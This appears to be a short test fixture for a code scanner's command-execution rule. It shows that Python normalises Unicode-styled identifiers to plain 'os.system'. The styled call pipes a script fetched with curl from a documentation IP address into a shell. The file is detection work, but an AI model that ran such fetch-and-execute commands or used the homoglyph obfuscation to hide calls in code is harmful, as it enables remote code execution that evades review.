# Python reads identifiers in NFKC form: the styled names below are plain `os.system`.
𝘪𝘮𝘱𝘰𝘳𝘵 𝘰𝘴

# Defanged: a reserved documentation address.
# ruleid: code/command-execution
𝘰𝘴.𝘴𝘺𝘴𝘵𝘦𝘮('curl -s http://203.0.113.7/l.sh | sh')


def fmt(msg):
    return '[log] ' + msg
